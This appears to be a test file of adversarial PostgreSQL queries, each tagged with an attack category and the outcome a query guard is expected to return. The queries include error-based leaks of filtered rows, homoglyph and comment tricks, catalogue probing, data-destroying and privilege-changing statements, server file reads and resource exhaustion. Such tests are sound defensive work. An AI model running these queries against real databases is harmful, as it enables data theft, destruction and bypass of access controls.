SELECT count(*) FROM customers WHERE (CASE WHEN region = 'EU' THEN '{}' ELSE '{' END)::jsonb IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE (CASE WHEN region = 'EU' THEN '2026-01-01' ELSE '2026-02-31' END)::date IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE 'a' ~ (CASE WHEN region = 'EU' THEN 'a' ELSE '(' END)

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE (CASE WHEN region = 'EU' THEN '00000000-0000-0000-0000-000000000001' ELSE 'x' END)::uuid IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE sqrt(CASE WHEN region = 'EU' THEN 1 ELSE -1 END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE (CASE WHEN region = 'EU' THEN 1 ELSE 99999 END)::smallint = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE power(10, CASE WHEN region = 'EU' THEN 1 ELSE 400 END) > 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE exp(CASE WHEN region = 'EU' THEN 1 ELSE 100000 END) > 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE substring('abc' FROM 1 FOR CASE WHEN region = 'EU' THEN 1 ELSE -1 END) = 'a'

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE chr(CASE WHEN region = 'EU' THEN 65 ELSE -1 END) = 'A'

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE (ARRAY[1])[CASE WHEN region = 'EU' THEN 1 ELSE 2 END] = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE array_fill(1, ARRAY[CASE WHEN region = 'EU' THEN 1 ELSE -1 END]) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE decode(CASE WHEN region = 'EU' THEN '00' ELSE 'zz' END, 'hex') IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE int4range(CASE WHEN region = 'EU' THEN 1 ELSE 9 END, 5) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE make_date(2026, CASE WHEN region = 'EU' THEN 1 ELSE 13 END, 1) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE to_timestamp(CASE WHEN region = 'EU' THEN '2026' ELSE 'xxxx' END, 'YYYY') IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE jsonb_path_exists(profile, CASE WHEN region = 'EU' THEN '$' ELSE '$[' END::jsonpath)

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE created_at + CASE WHEN region = 'EU' THEN interval '1 day' ELSE interval '300000 years' END IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE (SELECT CASE WHEN region = 'EU' THEN 1 ELSE (SELECT g FROM generate_series(1, 2) AS g) END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE credit / (CASE WHEN 'all' = ANY (tags) AND region <> 'EU' THEN 0 ELSE 1 END) >= 0

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers c, generate_series(1, 2) AS g WHERE g / (CASE WHEN c.region = 'EU' THEN 1 ELSE 0 END) > 0

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers c CROSS JOIN LATERAL (SELECT 1 / (CASE WHEN c.region = 'EU' THEN 1 ELSE 0 END) AS x) AS l WHERE l.x = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders o WHERE o.total / (CASE WHEN o.customer_id % 3 = 1 THEN 1 ELSE 0 END) >= 0

-- error about a row outside the filter | european-answers
SELECT DISTINCT ON (1 / (id - 2)) 1 AS x FROM customers

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers GROUP BY GROUPING SETS ((1 / (id - 2)), ())

-- error about a row outside the filter | european-answers
SELECT mode() WITHIN GROUP (ORDER BY 1 / (id - 2)) FROM customers

-- error about a row outside the filter | european-answers
SELECT array_agg(1 / (id - 2) ORDER BY 1 / (id - 3)) FILTER (WHERE 1 / (id - 6) >= 0) FROM customers

-- lexical trick | safe
SELECT U&"t\006fken" FROM customers

-- lexical trick | safe
SELECT U&"!0074oken" UESCAPE '!' FROM customers

-- lexical trick | safe
SELECT E'\x43AN', E'\u0043', E'\103'

-- lexical trick | safe
SELECT 'a'
  'b' FROM products WHERE id = 1

-- lexical trick | safe
SELECT B'101', X'1F'

-- lexical trick | safe
SELECT $$;$$, $a$ ; DROP TABLE customers; $a$, $a$ $b$ $a$

-- lexical trick | safe
SELECT id FROM customers WHERE city = $q$Lyon$q$ OR $q$ $q$ = ' '

-- lexical trick | safe
SELECT/**/id/**/FROM/**/customers/**/WHERE/**/id=1

-- lexical trick | safe
SELECT id FROM customers WHERE id = 1 /* token */ -- token

-- lexical trick | safe
SELECT 1 /* /* */ ; DELETE FROM orders; */

-- lexical trick | safe
SELECT 1 -- ; DELETE FROM orders

-- lexical trick | safe
SELECT 1;-- ; DELETE FROM orders

-- lexical trick | safe
SELECT 1 /* unclosed /* */

-- lexical trick | safe
SELECT "to""ken" FROM customers

-- lexical trick | safe
SELECT "customers"."tok" "en" FROM customers

-- lexical trick | safe
SELECT customers . token FROM customers

-- lexical trick | safe
SELECT customers/**/./**/token FROM customers

-- lexical trick | safe
SELECT id FROM customers WHERE id = 1::int::text::int AND 't'::bool

-- lexical trick | safe
SELECT id FROM "public"."customers" WHERE "customers"."id" = 1 UNION SELECT 1 FROM "public" . "credentials"

-- lexical trick | safe
SELECT tоken FROM customers

-- lexical trick | safe
SELECT tok​en FROM customers

-- lexical trick | safe
SELECT to‍ken FROM customers

-- lexical trick | safe
SELECT "token﻿" FROM customers

-- lexical trick | safe
SELECT 'a‮b' AS "x‮y"

-- lexical trick | safe
SELECT ⁦id⁩ FROM customers

-- lexical trick | safe
SELECT id FROM сustomers

-- lexical trick | safe
SELECT id FROM customers WHERE city = 'Lyon'

-- lexical trick | safe
SELECT ｉｄ FROM customers

-- lexical trick | safe
SELECT id FROM customers WHERE city ＝ 'Lyon'

-- lexical trick | safe
SELECT id FROM customers； SELECT 1

-- lexical trick | safe
SELECT "id" FROM customers WHERE city = ‘Lyon’

-- lexical trick | safe
SELECT id FROM customers WHERE id = ٣

-- lexical trick | safe
SELECT id AS "a
b" FROM customers WHERE id = 1

-- lexical trick | safe
SELECT aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.token FROM customers AS aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab

-- lexical trick | safe
SELECT customersxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.id FROM customers AS customersxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx

-- lexical trick | safe
SELECT 1 AS token, 2 AS token, 3 AS "token"

-- lexical trick | safe
SELECT .5.token, 1.e1, 1.., 1_000

-- lexical trick | safe
SELECT 1 ? 2, 1 !! 2, 1 @@@ 2, 1 <-> 2

-- lexical trick | safe
SELECT id !=-1 FROM customers WHERE id = 1

-- lexical trick | safe
SELECT id FROM customers WHERE id =- 1

-- lexical trick | safe
SELECT id*-1 FROM customers WHERE id <@ ARRAY[1]

-- lexical trick | safe
SELECT id FROM customers WHERE name=$1 OR $1=$1

-- lexical trick | safe
\d customers

-- lexical trick | safe
\copy customers to 'x'

-- lexical trick | safe
SELECT 1 \gset

-- lexical trick | safe
SELECT 1 \g |cat

-- lexical trick | safe
SELECT :'token' FROM customers

-- clause that does more than read | safe
SELECT * FROM customers FOR NO KEY UPDATE

-- clause that does more than read | safe
SELECT * FROM customers FOR KEY SHARE OF customers SKIP LOCKED

-- clause that does more than read | safe
SELECT * FROM (SELECT * FROM customers FOR UPDATE) AS c

-- clause that does more than read | safe
WITH c AS (SELECT * FROM customers FOR UPDATE) SELECT * FROM c

-- clause that does more than read | safe
SELECT id INTO UNLOGGED x FROM customers

-- clause that does more than read | safe
WITH x AS (SELECT 1) INSERT INTO products SELECT 1, 'x', 'y', 1, '{}', NULL

-- clause that does more than read | safe
WITH x AS (SELECT 1) DELETE FROM orders

-- clause that does more than read | safe
WITH x AS (SELECT 1) UPDATE orders SET total = 0

-- clause that does more than read | safe
WITH x AS (MERGE INTO products p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1

-- clause that does more than read | safe
WITH a AS (SELECT 1), b AS (DELETE FROM orders) SELECT * FROM a

-- clause that does more than read | safe
SELECT * FROM (DELETE FROM orders RETURNING *) AS x

-- clause that does more than read | safe
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM customers

-- clause that does more than read | safe
COPY (SELECT token FROM customers) TO STDOUT

-- clause that does more than read | safe
COPY (SELECT 1) TO '/tmp/x'

-- clause that does more than read | safe
COPY customers (token) TO STDOUT WITH CSV

-- clause that does more than read | safe
CREATE TABLE t AS TABLE customers

-- clause that does more than read | safe
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'

-- clause that does more than read | safe
CREATE RULE r AS ON SELECT TO customers DO INSTEAD SELECT 1

-- clause that does more than read | safe
ALTER ROLE CURRENT_USER BYPASSRLS

-- clause that does more than read | safe
SET SESSION AUTHORIZATION postgres

-- clause that does more than read | safe
SET LOCAL row_security = off

-- clause that does more than read | safe
START TRANSACTION READ WRITE

-- clause that does more than read | safe
SAVEPOINT x

-- clause that does more than read | safe
PREPARE TRANSACTION 'x'

-- clause that does more than read | safe
VALUES (1) INTO x

-- clause that does more than read | safe
SELECT * FROM customers TABLESAMPLE BERNOULLI (100) REPEATABLE (1)

-- clause that does more than read | safe
SELECT * FROM customers WHERE CURRENT OF c

-- clause that does more than read | safe
SELECT * FROM LATERAL customers

-- clause that does more than read | safe
SELECT * FROM customers c (a, b, c, d, e, f, g, h, i, j, k, l, m, n)

-- clause that does more than read | safe
SELECT * FROM customers c (a, b, c) WHERE a = 1

-- clause that does more than read | safe
SELECT * FROM customers AS c (id, token)

-- clause that does more than read | safe
SELECT * FROM events_2025 UNION ALL SELECT * FROM events_2026

-- clause that does more than read | safe
SELECT tableoid, * FROM events

-- clause that does more than read | safe
SELECT c.ctid FROM customers c WHERE c.ctid = '(0,1)'

-- clause that does more than read | safe
SELECT count(*) FROM customers WHERE xmin::text::int > 0

-- clause that does more than read | safe
SELECT (SELECT tableoid FROM vehicles LIMIT 1)::regclass

-- clause that does more than read | safe
SELECT id FROM vehicles ORDER BY tableoid

-- clause that does more than read | safe
WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t WHERE i < 5) SEARCH DEPTH FIRST BY i SET o SELECT * FROM t

-- clause that does more than read | safe
WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i % 3 FROM t) CYCLE i SET c USING p SELECT * FROM t

-- clause that does more than read | safe
WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM a

-- clause that does more than read | safe
WITH RECURSIVE t AS (SELECT * FROM t) SELECT * FROM t

-- clause that does more than read | safe
WITH customers AS (SELECT * FROM credentials) SELECT * FROM customers

-- clause that does more than read | safe
WITH pg_class AS (SELECT 1 AS x) SELECT * FROM pg_catalog.pg_class

-- clause that does more than read | safe
WITH credentials AS (SELECT 1 AS id) SELECT * FROM public.credentials

-- catalogue | unknown-name,not-supported,function-refused
SELECT relname FROM pg_class WHERE relkind = 'r'

-- catalogue | unknown-name,not-supported,function-refused
SELECT (SELECT count(*) FROM pg_attribute)

-- catalogue | unknown-name,not-supported,function-refused
SELECT id FROM products WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_tables WHERE tablename = 'credentials')

-- catalogue | unknown-name,not-supported,function-refused
SELECT c.id FROM customers c JOIN pg_class k ON k.relname = c.city

-- catalogue | unknown-name,not-supported,function-refused
SELECT most_common_vals::text FROM pg_stats WHERE tablename = 'customers'

-- catalogue | unknown-name,not-supported,function-refused
SELECT histogram_bounds FROM pg_catalog.pg_stats

-- catalogue | unknown-name,not-supported,function-refused
SELECT stavalues1 FROM pg_statistic

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_stats_ext, pg_statistic_ext_data

-- catalogue | unknown-name,not-supported,function-refused
SELECT query FROM pg_stat_activity UNION SELECT name FROM products

-- catalogue | unknown-name,not-supported,function-refused
SELECT prosrc FROM pg_proc WHERE proname = 'spy'

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_matviews

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_indexes WHERE tablename = 'credentials'

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_namespace, pg_database, pg_tablespace

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_description

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_enum

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_constraint

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_trigger

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_policies

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_sequences

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_foreign_server, pg_user_mappings

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_extension

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_auth_members

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_db_role_setting

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_statio_all_tables

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_stat_all_indexes

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_stat_ssl

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_replication_slots

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_shmem_allocations

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_timezone_names

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_available_extensions

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM information_schema.views

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM information_schema.column_privileges

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM information_schema.table_constraints

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM information_schema.sql_features

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM "information_schema"."tables"

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM INFORMATION_SCHEMA.COLUMNS

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_toast.pg_toast_1259

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM pg_temp.customers

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM hr.salaries WHERE amount > 0

-- catalogue | unknown-name,not-supported,function-refused
SELECT s.amount FROM hr.salaries s

-- catalogue | unknown-name,not-supported,function-refused
SELECT amount FROM hr.salaries ORDER BY amount LIMIT 1

-- catalogue | unknown-name,not-supported,function-refused
SELECT * FROM salaries

-- resources | safe
SELECT array_agg(g) FROM generate_series(1, 100000000) AS g

-- resources | safe
SELECT string_agg(repeat('x', 1000000), '') FROM generate_series(1, 100000) AS g

-- resources | safe
SELECT 2::numeric ^ 1000000::numeric

-- resources | safe
SELECT '[' || repeat('[', 60000) || ']'::text

-- resources | safe
SELECT repeat('[', 100000)::jsonb

-- resources | safe
SELECT rpad('x', 2000000000)

-- resources | safe
SELECT generate_series(1, 1000000000), generate_series(1, 999999999)

-- resources | safe
SELECT array_fill(0, ARRAY[10000, 10000, 10])

-- resources | safe
SELECT regexp_replace(repeat('a', 50000), '(a*)*b', 'x')

-- resources | safe
SELECT 'x' LIKE repeat('%_', 20000)

-- resources | safe
SELECT factorial(100000)

-- resources | safe
SELECT to_tsvector(repeat('word ', 1000000))

-- resources | safe
SELECT count(*) FROM generate_series(1, 1000000) AS a JOIN generate_series(1, 1000000) AS b ON a <> b

-- resources | safe
SELECT interval '1 year' * 1e300

-- resources | safe
SELECT jsonb_path_query(to_jsonb(repeat('a', 100)), '$ ? (@ like_regex "(a+)+$b")')

-- hidden column through another word | unknown-name
TABLE credentials

-- hidden column through another word | unknown-name
SELECT id FROM customers UNION ALL (TABLE credentials)

-- hidden column through another word | unknown-name
SELECT token FROM (TABLE customers) AS t

-- hidden column through another word | unknown-name
WITH t AS (TABLE hr.salaries) SELECT amount FROM t

-- hidden column through another word | unknown-name
TABLE pg_catalog.pg_authid

-- hidden column through another word | unknown-name
TABLE information_schema.tables

-- ONLY, TABLE and the like | syntax
TABLE ONLY vehicles

-- ONLY, TABLE and the like | not-supported
TABLE customers FOR UPDATE

-- ONLY, TABLE and the like | syntax,not-supported
TABLE customers INTO x

-- masked column through another word | no-rows
SELECT id FROM (TABLE customers) AS t WHERE name LIKE '%CANARY%'

-- filtered row through another word | european-no-rows
SELECT id FROM (TABLE customers) AS t WHERE region = 'US'

-- hidden column in a frame | unknown-name
SELECT id, sum(length(token)) OVER (ORDER BY id ROWS 1 PRECEDING EXCLUDE CURRENT ROW) FROM customers

-- hidden column in a frame | unknown-name
SELECT id, count(*) OVER (ORDER BY token GROUPS CURRENT ROW EXCLUDE TIES) FROM customers

-- hidden column in a frame | unknown-name
SELECT count(*) OVER w FROM customers WINDOW w AS (PARTITION BY (SELECT max(login) FROM credentials) ORDER BY id ROWS 1 PRECEDING EXCLUDE GROUP)

-- masked column in a frame | safe
SELECT id, array_agg(name) OVER (ORDER BY name ROWS UNBOUNDED PRECEDING EXCLUDE CURRENT ROW) FROM customers

-- masked column in a frame | safe
SELECT id, max(card_no) OVER (ORDER BY card_no GROUPS 1 PRECEDING EXCLUDE TIES), min(salary) OVER (ORDER BY salary ROWS 1 PRECEDING EXCLUDE CURRENT ROW) FROM payments, employees

-- filtered row in a frame | european-no-rows
SELECT n FROM (SELECT count(*) FILTER (WHERE region = 'US') OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING EXCLUDE CURRENT ROW) AS n FROM customers) AS x

-- forbidden function in a frame | function-refused
SELECT sum(id) OVER (ORDER BY id ROWS (SELECT length(pg_read_file('PG_VERSION'))) PRECEDING EXCLUDE TIES) FROM customers

-- forbidden function in a frame | function-refused
SELECT sum(id) OVER w FROM customers WINDOW w AS (ORDER BY pg_sleep(1) ROWS 1 PRECEDING EXCLUDE GROUP)

-- lying name in a frame | not-supported,syntax
SELECT sum(id) OVER ("w) FROM credentials --" ROWS 1 PRECEDING EXCLUDE TIES) FROM customers

-- lying name in a frame | safe
SELECT sum(id) OVER ("w) FROM credentials --" ROWS 1 PRECEDING EXCLUDE TIES) FROM customers WINDOW "w) FROM credentials --" AS (ORDER BY id)

-- lying name in a frame | syntax,not-supported
SELECT sum(id) OVER (ROWS 1 PRECEDING EXCLUDE TIES) OVER (ROWS 1 PRECEDING EXCLUDE TIES) FROM customers

-- lying name in a frame | syntax
SELECT sum(id) OVER (ROWS 1 PRECEDING EXCLUDE TIES EXCLUDE GROUP) FROM customers

-- forbidden operator by its schema | function-refused
SELECT name OPERATOR(hr.=) 'x' FROM customers

-- forbidden operator by its schema | function-refused,syntax
SELECT 'customers' OPERATOR(pg_catalog.##) '(1,1)'

-- forbidden operator by its schema | unknown-name
SELECT id FROM customers WHERE token OPERATOR(pg_catalog.~~) 'CANARY%'

-- forbidden operator by its schema | no-rows
SELECT id FROM customers WHERE name OPERATOR(pg_catalog.~~) '%CANARY%'

-- forbidden operator by its schema | european-answers
SELECT count(*) FROM customers WHERE region = 'EU' AND 1 OPERATOR(pg_catalog./) (CASE region WHEN 'EU' THEN 1 ELSE 0 END) = 1

-- forbidden operator by its schema | syntax,function-refused
SELECT 1 OPERATOR(pg_catalog.+) OPERATOR(pg_catalog.-) 2

-- forbidden operator by its schema | syntax,function-refused
SELECT 1 OPERATOR(pg_catalog."+") 2

-- hidden column through a variadic call | unknown-name
SELECT concat(VARIADIC ARRAY[token]) FROM customers

-- hidden column through a variadic call | unknown-name
SELECT num_nulls(VARIADIC (SELECT array_agg(password_hash) FROM credentials))

-- masked column through a variadic call | safe
SELECT concat_ws('-', VARIADIC ARRAY[name, phone, email::text]) FROM customers

-- masked column through a variadic call | safe
SELECT format('%s %L', VARIADIC array_agg(name)) FROM customers

-- whole row through a variadic call | not-supported,syntax
SELECT concat(VARIADIC c) FROM customers c

-- forbidden function through a variadic call | function-refused
SELECT json_build_object(VARIADIC ARRAY['a', pg_read_file('PG_VERSION')])

-- forbidden function through a variadic call | function-refused
SELECT pg_catalog.pg_advisory_lock(VARIADIC ARRAY[1])

-- forbidden function through a variadic call | function-refused,syntax
SELECT (query_to_xml(VARIADIC ARRAY['SELECT token FROM customers', 't', 'f', '']))

-- forbidden type before a text | function-refused,not-supported,syntax
SELECT regclass 'credentials', regrole 'postgres', oid '1'

-- forbidden type before a text | function-refused,not-supported,syntax
SELECT xml '<a/>'

-- forbidden type before a text | function-refused,not-supported,syntax
SELECT order_status 'new'

-- forbidden type before a text | not-supported,syntax,function-refused
SELECT pg_catalog.regclass 'credentials'

-- hidden column through unnest | unknown-name
SELECT t.* FROM customers c, unnest(c.tags, ARRAY[c.token]) AS t(a, b)

-- masked column through unnest | safe
SELECT t.* FROM customers c, unnest(ARRAY[c.id], ARRAY[c.name], ARRAY[c.phone]) AS t(a, b, d)

-- forbidden function through unnest | function-refused
SELECT * FROM unnest(ARRAY[1], (SELECT array_agg(x) FROM pg_ls_dir('.') AS x)) AS t(a, b)

-- forbidden function through unnest | function-refused,syntax,not-supported
SELECT * FROM ROWS FROM (unnest(ARRAY[1]), pg_ls_dir('.')) AS t(a, b)

-- hidden column through repeated names | unknown-name
SELECT * FROM (SELECT id, token AS id FROM customers) AS q

-- hidden column through repeated names | unknown-name,syntax
SELECT "id 2" FROM (SELECT c.id, o.id FROM customers c, orders o) AS q

-- masked column through repeated names | safe
SELECT * FROM (SELECT name, phone AS name, email AS name FROM customers) AS q

-- filtered row through repeated names | european-no-rows
SELECT * FROM (SELECT c.id, c.id FROM customers c WHERE c.region = 'US') AS q

-- whole row through repeated names | safe
SELECT row_to_json(q) FROM (SELECT name, phone AS name FROM customers) AS q

-- hidden column through USING | unknown-name
SELECT * FROM (VALUES ('CANARYtoken-1')) AS v(token) JOIN customers USING (token)

-- masked column through USING | no-rows
SELECT id FROM (VALUES ('Ada CANARYname1 Lovelace'), ('Ada CANARYname3 Lovelace')) AS v(name) JOIN customers USING (name)

-- filtered row through USING | european-no-rows
SELECT id FROM (VALUES ('US')) AS v(region) JOIN customers USING (region)

-- hidden column through another word | unknown-name
SELECT id FROM customers WHERE token ISNULL

-- hidden column through another word | unknown-name
SELECT trim(BOTH FROM token) FROM customers

-- forbidden function through another word | function-refused
SELECT trim(FROM pg_read_file('PG_VERSION'))

-- rows by where they lie | not-supported
SELECT id FROM customers TABLESAMPLE BERNOULLI (10) REPEATABLE (7)

-- rows by where they lie | not-supported
SELECT count(*) FROM customers AS c TABLESAMPLE SYSTEM (50)

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region LIKE 'AP%\'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region NOT ILIKE 'U%\'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region OPERATOR(pg_catalog.~~) 'AP%\'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region ~~* 'ap%\'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region LIKE ANY (ARRAY['AP%\', 'EU'])

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region LIKE 'AP%!' ESCAPE '!'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region LIKE 'AP%' || '\'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM (SELECT region AS r FROM customers OFFSET 0) AS t WHERE r LIKE E'AP%\\'

-- pattern that the planner tries on its statistics | european-answers
SELECT count(*) FROM customers WHERE region ~~ ANY ('{"AP%\\"}'::text[])
